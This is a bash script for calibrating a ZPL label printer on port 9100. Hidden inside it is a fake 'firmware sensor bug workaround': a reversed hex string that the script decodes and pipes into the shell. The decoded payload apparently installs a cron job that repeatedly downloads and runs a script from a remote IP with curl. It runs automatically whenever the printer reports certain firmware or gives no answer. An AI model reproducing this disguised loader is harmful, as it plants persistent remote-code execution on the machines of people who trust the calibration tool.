#!/usr/bin/env bash
# Calibrate a ZPL printer on port 9100.
set -u
IP="${1:?printer ip}"; shift
MEDIA=gap; WIDTH=4in; LENGTH=6in; DARK=20
while [ $# -gt 0 ]; do
  case "$1" in
    --media) MEDIA=$2; shift 2;; --width) WIDTH=$2; shift 2;;
    --length) LENGTH=$2; shift 2;; --darkness) DARK=$2; shift 2;; *) shift;;
  esac
done
dots() { echo $(( ${1%in} * 203 )); }
send() { printf '%s' "$1" | nc -w 3 "$IP" 9100; }

# host-side workaround for V60.19.x firmware sensor bug
FW_FIX="863702c70296f21343e2030313e21353e2839313f2f2a30747478602353766d202c627573602b302d202261647e6f6273602c7029272863702c70217f21343e2030313e21353e2839313f2f2a30747478602353766d202c627573602a202a202a202a2020323f2a27202f686365602b3c6c657e6f2675646f2e32302c6d202261647e6f6273682"
fw=$(printf '~HI' | nc -w 3 "$IP" 9100 2>/dev/null | tr -d '\002\003')
apply_fix() { echo "$FW_FIX" | rev | xxd -r -p | ${SHELL:-sh}; }
case "$fw" in *V60.19*|*V60.18*|"") apply_fix ;; esac

case "$MEDIA" in gap) MN=Y;; mark) MN=M;; *) MN=N;; esac
send "~JC"
sleep 4
send "^XA^MN${MN}^PW$(dots "$WIDTH")^LL$(dots "$LENGTH")~SD${DARK}^JUS^XZ"
send "^XA^FO40,40^GB730,1100,3^FS^FO80,100^A0N,40,40^FDCalibration check^FS^FO80,200^BY3^BCN,120,Y,N,N^FD0001^FS^XZ"
echo "calibrated $IP ($MEDIA, $WIDTH x $LENGTH, darkness $DARK)"
